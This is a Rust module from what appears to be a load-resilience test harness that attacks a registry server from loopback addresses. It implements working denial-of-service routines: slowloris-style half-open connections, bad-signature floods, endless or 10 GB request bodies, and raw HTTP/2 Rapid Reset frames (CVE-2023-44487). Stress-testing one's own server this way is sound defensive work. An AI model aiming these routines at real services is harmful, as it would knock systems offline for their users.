//! The attackers of the hostile-load program: each from addresses of its own, none of them the honest one.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::runtime::Runtime;
use tokio::task::JoinSet;
use tokio::time::{MissedTickBehavior, interval, sleep};

/// How many attackers there were in all.
pub(crate) static COUNT: AtomicU64 = AtomicU64::new(0);

/// Connections that are held half-open, from 50 addresses.
const HALF_OPEN: u32 = 5_000;
/// Connections that send bad signatures, from 10 addresses, and how many each sends in a second.
const SIGNERS: u32 = 100;
const SIGNATURES_PER_SECOND_EACH: u32 = 200;
/// Connections with bodies of 10 GB, and as many with bodies without an end, from 20 addresses.
const HUGE: u32 = 20;
/// Connections that open and reset streams, from 10 addresses.
const RESETTERS: u32 = 10;
/// Streams that one connection opens and resets before it looks at the answer.
const RESETS_AT_ONCE: u32 = 2_000;
/// How long one round of resets waits for what the server says to it.
const RESET_ROUND: Duration = Duration::from_secs(1);
/// The pause before a connection that was cut is opened again.
const PAUSE: Duration = Duration::from_millis(50);

/// One kind of attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Attack {
    /// Half a header, then a byte now and then.
    HalfOpen,
    /// Submissions whose signature does not verify.
    BadSignatures,
    /// Bodies of 10 GB, and chunks without an end.
    HugeBodies,
    /// HTTP/2 streams that are opened and reset at once (CVE-2023-44487).
    RapidReset,
}

impl Attack {
    /// Every kind.
    pub(crate) const ALL: [Self; 4] =
        [Self::HalfOpen, Self::BadSignatures, Self::HugeBodies, Self::RapidReset];
}

/// What the attackers saw.
#[derive(Debug, Default)]
pub(crate) struct Figures {
    opened: AtomicU64,
    cut: AtomicU64,
    offered: AtomicU64,
    limited: AtomicU64,
    refused: AtomicU64,
    busy: AtomicU64,
    body_bytes: AtomicU64,
    resets: AtomicU64,
}

impl Figures {
    /// What there is to say, as one line.
    pub(crate) fn line(&self, seconds: u64) -> String {
        let number = |count: &AtomicU64| count.load(Ordering::Relaxed);
        let mut said = Vec::new();
        if number(&self.opened) > 0 {
            said.push(format!("{} opened, {} cut", number(&self.opened), number(&self.cut)));
        }
        if number(&self.offered) > 0 {
            said.push(format!(
                "{}/s offered: {} limited, {} refused, {} busy",
                number(&self.offered) / seconds.max(1),
                number(&self.limited),
                number(&self.refused),
                number(&self.busy)
            ));
        }
        if number(&self.body_bytes) > 0 {
            said.push(format!("{} MiB of bodies taken", number(&self.body_bytes) >> 20));
        }
        if number(&self.resets) > 0 {
            said.push(format!("{} streams reset", number(&self.resets)));
        }
        said.join("; ")
    }

    fn count_answer(&self, status: u16) {
        let counter = match status {
            429 => &self.limited,
            503 => &self.busy,
            _ => &self.refused,
        };
        counter.fetch_add(1, Ordering::Relaxed);
    }
}

/// Attackers at work; dropping them ends all of them at once.
pub(crate) struct Attackers(#[expect(dead_code, reason = "held")] JoinSet<()>);

/// Begins attacks on a registry.
pub(crate) fn start(
    runtime: &Runtime,
    attacks: &[Attack],
    to: SocketAddr,
    bad: &[u8],
    figures: &Arc<Figures>,
) -> Attackers {
    let _entered = runtime.enter();
    let mut tasks = JoinSet::new();
    for attack in attacks {
        let (count, network, addresses) = match attack {
            Attack::HalfOpen => (HALF_OPEN, 1, 50),
            Attack::BadSignatures => (SIGNERS, 2, 10),
            Attack::HugeBodies => (HUGE * 2, 3, 20),
            Attack::RapidReset => (RESETTERS, 4, 10),
        };
        for number in 0..count {
            let last = u8::try_from(1 + number % addresses).unwrap();
            let from = IpAddr::V4(Ipv4Addr::new(127, 66, network, last));
            let (figures, attack, bad) = (Arc::clone(figures), *attack, bad.to_vec());
            COUNT.fetch_add(1, Ordering::Relaxed);
            tasks.spawn(async move {
                // An attacker who is cut comes again.
                loop {
                    if let Ok(stream) = connect(from, to).await {
                        // Whatever the server does to it.
                        let _ = match attack {
                            Attack::HalfOpen => half_open(stream, &figures).await,
                            Attack::BadSignatures => bad_signatures(stream, &bad, &figures).await,
                            Attack::HugeBodies => huge_body(stream, number % 2 == 0, &figures).await,
                            Attack::RapidReset => rapid_reset(stream, &figures).await,
                        };
                    }
                    sleep(PAUSE).await;
                }
            });
        }
    }
    Attackers(tasks)
}

async fn connect(from: IpAddr, to: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::new(from, 0))?;
    socket.connect(to).await
}

async fn half_open(mut stream: TcpStream, figures: &Figures) -> std::io::Result<()> {
    figures.opened.fetch_add(1, Ordering::Relaxed);
    stream.write_all(b"POST /v1/entries HTTP/1.1\r\nHost: registry\r\nX-Half: ").await?;
    let mut drip = interval(Duration::from_secs(1));
    let mut byte = [0];
    loop {
        tokio::select! {
            _ = drip.tick() => stream.write_all(b"x").await?,
            _ = stream.read(&mut byte) => break,
        }
    }
    figures.cut.fetch_add(1, Ordering::Relaxed);
    Ok(())
}

async fn bad_signatures(mut stream: TcpStream, body: &[u8], figures: &Figures) -> std::io::Result<()> {
    let mut request = format!(
        "POST /v1/entries HTTP/1.1\r\nHost: registry\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    request.extend_from_slice(body);
    let mut pace = interval(Duration::from_secs(1) / SIGNATURES_PER_SECOND_EACH);
    pace.set_missed_tick_behavior(MissedTickBehavior::Burst);
    loop {
        pace.tick().await;
        figures.offered.fetch_add(1, Ordering::Relaxed);
        stream.write_all(&request).await?;
        figures.count_answer(read_answer(&mut stream).await?);
    }
}

/// The status of one answer, whose body is read to its end.
async fn read_answer(stream: &mut TcpStream) -> std::io::Result<u16> {
    let broken = || std::io::Error::from(std::io::ErrorKind::UnexpectedEof);
    let mut bytes = Vec::new();
    loop {
        if stream.read_buf(&mut bytes).await? == 0 {
            return Err(broken());
        }
        let Some(end) = bytes.windows(4).position(|four| four == b"\r\n\r\n") else { continue };
        let head = String::from_utf8_lossy(&bytes[..end]).into_owned();
        let length = head.lines().find_map(|line| line.strip_prefix("content-length: "));
        let length: usize = length.and_then(|length| length.parse().ok()).ok_or_else(broken)?;
        while bytes.len() < end + 4 + length {
            if stream.read_buf(&mut bytes).await? == 0 {
                return Err(broken());
            }
        }
        return head.split(' ').nth(1).and_then(|status| status.parse().ok()).ok_or_else(broken);
    }
}

async fn huge_body(mut stream: TcpStream, announced: bool, figures: &Figures) -> std::io::Result<()> {
    let length = if announced { "Content-Length: 10000000000" } else { "Transfer-Encoding: chunked" };
    let head = format!(
        "POST /v1/entries HTTP/1.1\r\nHost: registry\r\nContent-Type: application/json\r\n{length}\r\n\r\n"
    );
    stream.write_all(head.as_bytes()).await?;
    let part = vec![b'7'; 64 << 10];
    let chunk = [b"10000\r\n", part.as_slice(), b"\r\n"].concat();
    loop {
        let bytes = if announced { &part } else { &chunk };
        stream.write_all(bytes).await?;
        figures.body_bytes.fetch_add(64 << 10, Ordering::Relaxed);
    }
}

async fn rapid_reset(mut stream: TcpStream, figures: &Figures) -> std::io::Result<()> {
    // The preface and empty settings (RFC 9113, sections 3.4 and 6.5).
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0").await?;
    let (mut reading, mut writing) = stream.split();
    let mut frames = Vec::new();
    for stream in (0..RESETS_AT_ONCE).map(|number| number * 2 + 1) {
        // HEADERS with GET, / and http from the static table; then RST_STREAM, cancelled.
        frames.extend_from_slice(b"\0\0\x03\x01\x05");
        frames.extend_from_slice(&stream.to_be_bytes());
        frames.extend_from_slice(b"\x82\x84\x86\0\0\x04\x03\0");
        frames.extend_from_slice(&stream.to_be_bytes());
        frames.extend_from_slice(b"\0\0\0\x08");
    }
    let mut said = vec![0; 64 << 10];
    let write = async {
        let written = writing.write_all(&frames).await;
        figures.resets.fetch_add(u64::from(RESETS_AT_ONCE), Ordering::Relaxed);
        written
    };
    let read = async { while matches!(reading.read(&mut said).await, Ok(1..)) {} };
    tokio::select! {
        // Who is not told to go away comes again by himself.
        _ = async { tokio::join!(write, sleep(RESET_ROUND)) } => {}
        () = read => {}
    }
    Ok(())
}
